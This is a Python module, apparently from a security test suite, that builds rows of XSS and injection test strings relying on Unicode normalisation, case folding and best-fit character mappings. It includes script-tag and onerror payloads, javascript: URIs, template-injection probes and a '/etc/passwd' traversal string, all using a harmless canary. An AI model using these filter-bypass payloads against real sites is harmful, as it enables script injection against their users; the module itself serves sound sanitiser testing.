r"""What becomes markup, or another text, when somebody normalises, folds, translates or cuts it."""

from __future__ import annotations

import unicodedata

from support.tricks.payloads import IMG, RUN, Rows

__all__ = ["NORMALISATION"]

# What breaks out behind each sign, once a fullwidth, small, raised or vertical form has become that sign.
_BEHIND = {
    "<": f"img src=x onerror={RUN}>",
    ">": IMG,
    '"': f"}});{RUN}//",
    "'": f"}});{RUN}//",
    "&": "lt;script",
    "\\": f'"}});{RUN}//',
    "`": f";{RUN}//",
    "{": "{7*7}}",
    "}": f"}});{RUN}//",
    "=": RUN,
    "%": "22",
    "/": "script>",
    ";": RUN,
    "(": f"{RUN})",
    ")": f";{RUN}//",
    "$": "{window.canary=1}",
    "[": "[7*7]]",
    "*": f"/{RUN}//",
    "+": "ADw-",
    "-": "->",
    "#": "{7*7}",
    "@": "example.com",
    ":": "javascript",
    "!": "--",
}
_COMPATIBLE = [
    (character, sign)
    for character in map(chr, [*range(0x80, 0xD800), *range(0xE000, 0x20000)])
    if (sign := unicodedata.normalize("NFKC", character)) in _BEHIND
]

# Letters that lose their dress under NFKC: where each alphabet's small a stands.
_ALPHABETS = {
    "fullwidth": 0xFF41,
    "circled": 0x24D0,
    "parenthesised": 0x249C,  # becomes (s)(c)(r)…, a call of a call
    "bold": 0x1D41A,
    "italic": 0x1D44E,
    "script": 0x1D4EA,
    "fraktur": 0x1D586,
    "double-struck": 0x1D552,
    "sans": 0x1D5BA,
    "monospace": 0x1D68A,
}

# Letters beyond ASCII whose upper or lower case is within.
_CASES = {
    "long-s-script": "<\u017fcript>window.canary=1</\u017fcript>",
    "dotless-i-script": "<scr\u0131pt>window.canary=1</scr\u0131pt>",
    "dotless-i-image": "<\u0131mg src=x onerror=window.canary=1>",
    "dotted-i-script": "<SCR\u0130PT>window.canary=1</SCR\u0130PT>",
    "kelvin-link": "<lin\u212a rel=stylesheet href=data:,>",
    "kelvin-onclick": "<x onclic\u212a=window.canary=1>",
    "long-s-javascript": "java\u017fcript:window.canary=1",
    "ligature-script": "<\ufb06yle onload=window.canary=1>",  # st
    "ligature-iframe": "<iframe \ufb00>",
    "sharp-s": "\u00df\u1e9e\u00df",
    "n-apostrophe": "\u0149onclick",  # ʼN: gets an apostrophe of a kind
    "j-caron": "\u01f0avascript:",
    "sigma-end": "\u03a3. \u03a3",
    "title-case": "\u01c6\u01c5\u01c4",
    "cherokee": "\u13a0\uab70",  # folds to upper case
    "iota": "\u1fb3\u0345",
    "hostname": "\u0130@example.com",  # two characters when lowered
}

# Marks that join the sign before them, which may be the page's own.
_MARKS = {
    "solidus": "\u0338",  # > < = have forms with it
    "solidus-short": "\u0337",
    "stroke": "\u20d2",
    "dot-below": "\u0323",
    "grave": "\u0300",
    "enclosing": "\u20dd",
    "kana": "\u3099",
    "keycap": "\u20e3",
}

# A character of old programs' tables, and the sign that they put where they have none of its own.
_BEST_FIT = {
    "less-than-single": "\u2039",
    "less-than-angle": "\u2329",
    "less-than-cjk": "\u3008",
    "less-than-math": "\u27e8",
    "less-than-double": "\u00ab",
    "less-than-much": "\u226a",
    "less-than-not": "\u226e",  # < and a mark under NFD
    "less-than-roof": "\u02c2",
}
_BEST_FIT_QUOTES = {
    "prime": "\u2032",
    "prime-double": "\u2033",
    "prime-modifier": "\u02b9",
    "prime-modifier-double": "\u02ba",
    "apostrophe-modifier": "\u02bc",
    "vertical-line": "\u02c8",
    "grave-modifier": "\u02cb",
    "acute": "\u00b4",
    "acute-double": "\u02dd",
    "curly-single": "\u2019",
    "curly-low": "\u201a",
    "curly-double": "\u201c",
    "ditto": "\u3003",
    "reversed-double": "\u301d",
    "geresh": "\u05f3",
    "varia": "\u1fef",  # a backtick even under NFC
}
_BEST_FIT_OTHERS = {
    "backslash-set": '\u2216"});window.canary=1//',
    "backslash-big": '\u29f9"});window.canary=1//',
    "backslash-won": '\u20a9"});window.canary=1//',
    "slash-fraction": "<\u2044script>",
    "slash-division": "<\u2215script>",
    "slash-solidus": "<\u29f8script>",
    "colon-ratio": "javascript\u2236window.canary=1",
    "colon-letter": "javascript\ua789window.canary=1",
    "equals-hyphen": "x\u2e40window.canary",
    "dash-minus": "--\u2212> \u2010\u2011\u2012\u2013\u2014",
    "dot-leader": "window\u2024canary",
    "dots": "..\u2025\u2026/etc/passwd",
    "bars": "\u01c0\u2223\u2758",
    "semicolon-greek": "x\u037ewindow.canary=1",
    "asterisk": "\u2217/window.canary=1//",
    "tilde": "\u02dc\u223c\u301c",
    "digits": "\u2460\u00b2\u0967\U0001d7d9",
}

# One character that becomes several.
_EXPANDING = {
    "account-of": "\u2100",  # a/c
    "care-of": "\u2105",
    "colon-equals": "\u2a74",  # ::=
    "equals-two": "\u2a75",
    "equals-three": "\u2a76",
    "exclamations": "\u203c",
    "questions": "\u2047",
    "ellipsis": "\u2026",
    "half": "\u00bd",
    "parenthesised": "\u2474\u249c",
    "full-stop": "\u2488",
    "arabic-phrase": "\ufdfa",  # eighteen
    "square": "\u33ae",
    "company": "\u3231\u32a5",
    "rupee": "\u20a8",
    "acute": "\u00b4",  # a blank and a mark
    "number": "\u2116\u2121",
    "ideographic-lines": "\u2ff1\u2e80\u2f00",
}

# The same to a reader, and four texts to a program: none may be made into another.
_SAME = {
    "angstrom": "\u212b \u00c5 A\u030a",
    "ohm": "\u2126 \u03a9",
    "order": "a\u0323\u0307 a\u0307\u0323",  # marks in two orders
    "excluded": "\u0958 \u0915\u093c",  # never composed
    "hebrew": "\ufb2a \u05e9\u05c1",
    "tone-marks": "\u0340\u0341\u0344",
    "hangul": "\uac00 \u1100\u1161 \u3131\u314f",
    "vietnamese": "Vi\u1ec7t Vie\u0323\u0302t",
    "compatibility-ideograph": "\uf900 \u8c48",
    "compatibility-astral": "\U0002f800 \u4e3d",
    "half-width": "\uff76\uff9e \u30ac",
    "roman": "\u2167 VIII",
    "micro": "\u00b5 \u03bc",
    "spaces": "a\u2003b\u2009c\u202fd",
    "music": "\U0001d15e",  # taken apart even by NFC
    "cyrillic-look": "\u0455\u0441\u0433\u0456\u0440\u0442",
    "greek-look": "\u0391\u0392\u0395 ABE",
}

NORMALISATION: Rows = (
    *(
        (f"compatible-{unicodedata.name(character).lower().replace(' ', '-')}", character + _BEHIND[sign])
        for character, sign in _COMPATIBLE
    ),
    *(
        (
            f"alphabet-{name}",
            f"<{''.join(chr(first + ord(letter) - ord('a')) for letter in 'script')}>{RUN}</script>",
        )
        for name, first in _ALPHABETS.items()
    ),
    *((f"case-{name}", value) for name, value in _CASES.items()),
    *((f"mark-{name}-first", f"{mark}>{mark}={mark}<{mark}") for name, mark in _MARKS.items()),
    *((f"mark-{name}-in-tag", f"<{mark}script{mark}>{RUN}") for name, mark in _MARKS.items()),
    *((f"best-fit-{name}", f"{character}img src=x onerror={RUN}>") for name, character in _BEST_FIT.items()),
    *((f"best-fit-{name}", f"{character}}});{RUN}//") for name, character in _BEST_FIT_QUOTES.items()),
    *((f"best-fit-{name}", value) for name, value in _BEST_FIT_OTHERS.items()),
    *((f"expanding-{name}", character * 3) for name, character in _EXPANDING.items()),
    *((f"same-{name}", value) for name, value in _SAME.items()),
)
